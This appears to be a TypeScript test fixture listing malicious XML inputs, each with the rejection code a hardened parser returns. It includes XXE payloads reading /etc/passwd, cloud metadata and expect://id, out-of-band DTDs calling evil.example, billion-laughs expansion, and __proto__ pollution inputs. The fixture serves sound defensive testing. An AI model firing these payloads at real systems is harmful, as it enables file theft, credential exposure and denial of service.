/** Documents that attack a parser, or a program that reads what it parsed, with the code that refuses them. */
interface XmlAttack {
  readonly name: string;
  readonly document: string | Uint8Array;
  readonly code: string;
}

const xml = (name: string, document: string | Uint8Array, code: string): XmlAttack => ({
  name,
  document,
  code,
});
const utf16 = (text: string): Uint8Array => Buffer.from(`\ufeff${text}`, 'utf16le');

/** Ten times ten times ... of `lol`. */
export function billionLaughs(levels: number): string {
  const entities = Array.from({ length: levels }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`);
  return `<!DOCTYPE a [<!ENTITY l0 "lol">${entities.join('')}]><a>&l${levels};</a>`;
}

export const xmlAttacks: readonly XmlAttack[] = [
  ...[
    ['a file', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ['a URL', '<!DOCTYPE a [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><a>&x;</a>'],
    ['a PUBLIC id', '<!DOCTYPE a [<!ENTITY x PUBLIC "-//a" "file:///etc/passwd">]><a>&x;</a>'],
    ['an expect: URL', '<!DOCTYPE a [<!ENTITY x SYSTEM "expect://id">]><a>&x;</a>'],
    [
      'a php: filter',
      '<!DOCTYPE a [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]><a>&x;</a>',
    ],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>'],
    [
      'an out-of-band DTD',
      '<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "http://evil.example/d">%d;%f;]><a/>',
    ],
    [
      'an error that quotes a file',
      '<!DOCTYPE a [<!ENTITY % l SYSTEM "file:///usr/share/xml/docbook.dtd">%l;]><a/>',
    ],
    ['an external DTD', '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>'],
    ['an entity in an attribute', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a b="&x;"/>'],
    ['a default attribute', '<!DOCTYPE a [<!ATTLIST a role CDATA "admin">]><a/>'],
    ['an unparsed entity', '<!DOCTYPE a [<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "x" NDATA n>]><a b="x"/>'],
    ['a DOCTYPE alone', '<!DOCTYPE a><a/>'],
    ['a DOCTYPE after a comment', '<!-- a --><?b?>\n<!DOCTYPE a [ ]><a/>'],
    ['a DOCTYPE with quotes in it', `<!DOCTYPE a [<!ENTITY x "]>">]><a/>`],
    ['a DOCTYPE with a comment in it', '<!DOCTYPE a [<!-- ]> --><!ENTITY x "y">]><a/>'],
  ].map(([name = '', document = '']) => xml(`XXE (CWE-611): ${name}`, document, 'parse/not-allowed')),
  xml('billion laughs (CWE-776)', billionLaughs(9), 'parse/not-allowed'),
  xml(
    'quadratic blow-up',
    `<!DOCTYPE a [<!ENTITY x "${'x'.repeat(50_000)}">]><a>${'&x;'.repeat(50_000)}</a>`,
    'parse/not-allowed',
  ),
  xml(
    'a recursive entity',
    '<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]><a>&x;</a>',
    'parse/not-allowed',
  ),
  xml('an entity that is not declared', '<a>&x;</a>', 'parse/invalid-syntax'),
  xml('an entity of HTML', '<a>&nbsp;</a>', 'parse/invalid-syntax'),
  xml('an entity named after a property', '<a>&constructor;&__proto__;</a>', 'parse/invalid-syntax'),
  xml('an entity without its end', `<a>&${'x'.repeat(100_000)}</a>`, 'parse/invalid-syntax'),
  xml('a second DOCTYPE inside', '<a><!DOCTYPE b></a>', 'parse/invalid-syntax'),
  xml('a lower-case doctype', '<!doctype html><a/>', 'parse/invalid-syntax'),
  xml(
    'UTF-7 (a filter does not see the DOCTYPE)',
    Buffer.from('<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE a><a/>'),
    'parse/not-allowed',
  ),
  xml('UTF-7, as a string', '<?xml version="1.0" encoding="UTF-7"?><a/>', 'parse/not-allowed'),
  xml('EBCDIC', Buffer.from('<?xml version="1.0" encoding="IBM037"?><a/>'), 'parse/not-allowed'),
  xml('Latin-1', Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a/>'), 'parse/not-allowed'),
  xml('UTF-16 with a byte order mark', utf16('<!DOCTYPE a><a/>'), 'parse/invalid-text'),
  xml('UTF-16 without one', Buffer.from('<a/>', 'utf16le'), 'parse/invalid-syntax'),
  xml(
    'UTF-16 announced, UTF-8 sent',
    Buffer.from('<?xml version="1.0" encoding="UTF-16"?><a/>'),
    'parse/not-allowed',
  ),
  xml('an overlong <', Buffer.from([0xc0, 0xbc, 0x61, 0x2f, 0x3e]), 'parse/invalid-text'),
  xml('half a surrogate pair', '<a>\ud800</a>', 'parse/invalid-text'),
  xml('a reference to half of a pair', '<a>&#xD800;</a>', 'parse/invalid-syntax'),
  xml('a reference to NUL', '<a>&#0;</a>', 'parse/invalid-syntax'),
  xml('a reference beyond Unicode', '<a>&#x110000;&#99999999999999999999;</a>', 'parse/invalid-syntax'),
  xml('a control character', '<a>\u0008</a>', 'parse/invalid-syntax'),
  xml('XML 1.1 (other line ends and controls)', '<?xml version="1.1"?><a>&#1;</a>', 'parse/not-allowed'),
  xml('101 levels', '<a>'.repeat(101) + '</a>'.repeat(101), 'parse/too-deep'),
  xml('a million levels', '<a>'.repeat(300_000), 'parse/too-deep'),
  xml('100,001 elements', `<a>${'<b/>'.repeat(100_000)}</a>`, 'parse/too-many'),
  xml(
    '101 attributes',
    `<a ${Array.from({ length: 101 }, (_, n) => `b${n}=""`).join(' ')}/>`,
    'parse/too-many',
  ),
  xml(
    '101 declarations of namespaces',
    `<a ${Array.from({ length: 101 }, (_, n) => `xmlns:b${n}="c"`).join(' ')}/>`,
    'parse/too-many',
  ),
  xml('a megabyte and a byte', `<a>${'x'.repeat(1_000_000 - 6)}</a>`, 'parse/too-large'),
  xml('a duplicate attribute', '<a role="user" role="admin"/>', 'parse/invalid-syntax'),
  xml(
    'a duplicate under two prefixes',
    '<a xmlns:p="u" xmlns:q="u" p:role="user" q:role="admin"/>',
    'parse/invalid-syntax',
  ),
  xml('a prefix that is not bound', '<p:a/>', 'parse/invalid-syntax'),
  xml('a prefix named after a property', '<constructor:a/>', 'parse/invalid-syntax'),
  xml('the xml prefix bound anew', '<a xmlns:xml="urn:x"/>', 'parse/invalid-syntax'),
  xml('the xmlns prefix bound', '<a xmlns:xmlns="urn:x"/>', 'parse/invalid-syntax'),
  xml(
    'another prefix for the xml namespace',
    '<a xmlns:p="http://www.w3.org/XML/1998/namespace"/>',
    'parse/invalid-syntax',
  ),
  xml('an empty prefix binding', '<a xmlns:p=""/>', 'parse/invalid-syntax'),
  xml('two colons', '<a xmlns:p="u"><p:b:c/></a>', 'parse/invalid-syntax'),
  xml('an element __proto__', '<a><__proto__><isAdmin>1</isAdmin></__proto__></a>', 'parse/dangerous-key'),
  xml('a prefixed __proto__', '<a xmlns:p="u"><p:__proto__/></a>', 'parse/dangerous-key'),
  xml('an attribute __proto__', '<a __proto__="1"/>', 'parse/dangerous-key'),
  xml('two roots', '<a/><b/>', 'parse/invalid-syntax'),
  xml('text after the root', '<a/>b', 'parse/invalid-syntax'),
  xml('text before the root', 'b<a/>', 'parse/invalid-syntax'),
  xml('an end tag that is missing', '<a><b></a>', 'parse/invalid-syntax'),
  xml('an end tag in other letters', '<A></a>', 'parse/invalid-syntax'),
  xml('an attribute without quotes', '<a b=c/>', 'parse/invalid-syntax'),
  xml('a < in an attribute', '<a b="<"/>', 'parse/invalid-syntax'),
  xml('CDATA without its end', '<a><![CDATA[x</a>', 'parse/invalid-syntax'),
  xml('an end of CDATA in text', '<a>]]></a>', 'parse/invalid-syntax'),
  xml('a comment with --', '<a><!-- a -- b --></a>', 'parse/invalid-syntax'),
  xml('a declaration that is not first', ' <?xml version="1.0"?><a/>', 'parse/invalid-syntax'),
  xml('nothing', '', 'parse/invalid-syntax'),
  xml('JSON', '{"a":1}', 'parse/invalid-syntax'),
];
